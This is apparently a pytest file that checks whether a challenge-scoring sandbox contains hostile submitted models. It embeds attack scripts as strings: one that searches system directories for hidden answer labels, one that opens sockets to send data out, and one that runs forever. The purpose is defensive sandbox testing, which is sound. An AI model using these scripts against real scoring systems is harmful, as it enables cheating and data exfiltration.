"""A challenge's scoring sandbox holds against a hostile team's model (issue 41): its
`predict.py` runs as AICC's own job with the hidden inputs and no answers, on the real server
with the bubblewrap sandbox and the job's own network. A model that hunts the hidden labels
on the disk finds none and fails; one that sends what it reads out reaches no listener and no
port of the server and fails; one that runs forever is stopped at the challenge's
`max_runtime_s`. Each is scored as failed with the reason, none gets a score, and the team
sees neither the job nor its logs."""

from __future__ import annotations

import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from aicc.store.tables import ChallengeRow, ChallengeSubmissionRow
from aicc.testing import challenges
from aicc.testing.datasets import push
from aicc.testing.isolation import Listener, listening
from aicc.testing.servers import over_http
from aicc.testing.tenants import make_tenant

SECRET = "label-7f3c"  # the hidden answers' only values: found anywhere, the hunt succeeded

HUNT = """
import os, stat, sys
found = None
for top in sys.argv[1:] + [os.environ["AICC_DATA_DIR"]]:
    print("hunting in", top, flush=True)
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
        for name in files:
            try:
                if not stat.S_ISREG(os.lstat(os.path.join(root, name)).st_mode):
                    continue  # a FIFO would block the hunt
                with open(os.path.join(root, name), "rb") as f:
                    if SECRET.encode() in f.read(1 << 16):
                        found = os.path.join(root, name)
            except OSError:
                pass
print("HUNT", found, flush=True)
if found is None:
    sys.exit(3)
import csv
rows = list(csv.DictReader(open(os.environ["AICC_DATA_DIR"] + "/" + INPUTS)))
with open(os.environ["AICC_OUTPUT_DIR"] + "/predictions.csv", "w") as out:
    out.write("aicc_row,prediction\\n")
    for row in rows:
        out.write(row["aicc_row"] + "," + SECRET + "\\n")
"""

CALL = """
import socket, sys
reached = []
for target in TARGETS:
    host, port = target.rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), timeout=3).sendall(b"hidden rows")
        reached.append(target)
    except OSError as exc:
        print("REFUSED", target, type(exc).__name__, flush=True)
sys.exit(4 if not reached else 0)
"""

# where labels could lie: the data mounted, the machine's homes and scratch, the server's home
PLACES = ["/data", "/tmp", "/home", "/mnt", "/srv", "/run", "/var/lib/aicc"]
SLEEP = "import time\ntime.sleep(3600)\n"


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening("0.0.0.0") as opened:
        yield opened


def _outcome(team: httpx.Client, cid: str, submission_id: str) -> dict[str, Any]:
    for _ in range(900):
        (found,) = [
            s
            for s in team.get(f"/api/v1/challenges/{cid}/submissions").json()
            if s["id"] == submission_id
        ]
        if found["state"] != "scoring":
            return dict(found)
        time.sleep(0.2)
    raise AssertionError(f"never scored: {found}")


def test_a_hostile_model_is_stopped_and_scored_as_failed(
    tmp_path: Path, listener: Listener
) -> None:
    home = tmp_path / "home"
    with (
        over_http(home) as (url, token, state),
        httpx.Client(timeout=60, base_url=url, headers={"Authorization": f"Bearer {token}"}) as api,
    ):
        city_t, mallory_t = make_tenant(api, "city", role="org_admin"), make_tenant(api, "mallory")
        with (
            httpx.Client(timeout=60, base_url=url, headers=city_t.headers) as city,
            httpx.Client(timeout=60, base_url=url, headers=mallory_t.headers) as mallory,
        ):
            rows = "x,label\n" + "".join(f"{i},{SECRET}\n" for i in range(20))
            push(city, "answers", {"test.csv": rows.encode()})
            need = {
                "name": "guard",
                "title": "t",
                "problem": "p",
                "metric": "accuracy",
                "deadline": (datetime.now(UTC) + timedelta(days=1)).isoformat(),
            }
            assert city.post("/api/v1/needs", json=need).status_code == 201
            made = city.post(
                "/api/v1/needs/guard/challenge",
                json={"hidden": "answers@1", "target": "label", "max_runtime_s": 10},
            )
            assert made.status_code == 201, made.text
            cid = made.json()["id"]
            assert (
                mallory.post(f"/api/v1/challenges/{cid}/join", json={"team": "m"}).status_code
                == 200
            )
            with state.db.session() as session:  # the inputs' name, as the hunt would guess it
                ref = session.get(ChallengeRow, cid).inputs
            inputs_file = ref.rsplit("/", 1)[1].split("@")[0] + "/inputs.csv"

            server = urlsplit(url)
            targets = [f"127.0.0.1:{listener.port}", f"{server.hostname}:{server.port}"]
            models = {
                # the secret put together at run time: the script itself must not hold it
                "hunt": f"SECRET = {SECRET[:6]!r} + {SECRET[6:]!r}\nINPUTS = {inputs_file!r}\n"
                + HUNT.replace("sys.argv[1:]", repr([*PLACES, str(home), str(tmp_path)])),
                "call": f"TARGETS = {targets!r}\n" + CALL,
                "sleep": SLEEP,
            }
            sent = {}
            for name, script in models.items():
                challenges.model(mallory, name, script)
                answer = mallory.post(f"/api/v1/challenges/{cid}/submissions", json={"model": name})
                assert answer.status_code == 201, answer.text
                sent[name] = answer.json()["id"]
            results = {name: _outcome(mallory, cid, sid) for name, sid in sent.items()}

            with state.db.session() as session:  # the center's view: what each job was
                jobs = {
                    name: session.get(ChallengeSubmissionRow, sid).job_id
                    for name, sid in sent.items()
                }
            for name, result in results.items():
                log = api.get(f"/api/v1/jobs/{jobs[name]}/logs").text
                assert result["state"] == "failed", (name, result, log)
                assert result["public_score"] is None and result["private_score"] is None
            assert "ended failed" in results["hunt"]["error"]
            assert "ended failed" in results["call"]["error"]
            took = datetime.fromisoformat(results["sleep"]["scored_at"]) - datetime.fromisoformat(
                results["sleep"]["created_at"]
            )
            assert (
                "max_runtime" in results["sleep"]["error"]
                or "deadline" in results["sleep"]["error"]
            ), results["sleep"]
            assert took < timedelta(seconds=120)
            assert listener.accepted == 0
            assert mallory.get(f"/api/v1/challenges/{cid}/board").json()["standings"] == []

            # What the center saw of the hunt and the calls (the team sees none of it).
            for job_id in jobs.values():
                assert mallory.get(f"/api/v1/jobs/{job_id}/logs").status_code == 404
            hunt_log = api.get(f"/api/v1/jobs/{jobs['hunt']}/logs").text
            assert "HUNT None" in hunt_log, hunt_log  # the hunt found no label anywhere
            call_log = api.get(f"/api/v1/jobs/{jobs['call']}/logs").text
            assert call_log.count("REFUSED") == 2, call_log
